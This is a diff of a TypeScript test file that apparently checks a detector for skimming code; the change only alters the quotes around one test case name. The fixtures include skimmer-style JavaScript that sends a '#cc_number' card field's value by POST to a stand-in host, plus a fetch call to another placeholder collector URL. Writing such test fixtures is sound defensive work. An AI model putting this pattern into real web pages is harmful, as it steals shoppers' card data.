@@ -15,7 +15,7 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
     has: ['fetch("https://stats.example-cdn.net/c.php"'],
   },
   {
-    name: "a bare this.k is not written out: a method handed out as a handler runs with another this",
+    name: 'a bare this.k is not written out: a method handed out as a handler runs with another this',
     source: `var S = { value: '', send: function () { fetch('https://relay.example/c', { method: 'POST', body: this.value }) } }
       document.querySelector('#cc_number').onchange = S.send`,
     has: [],
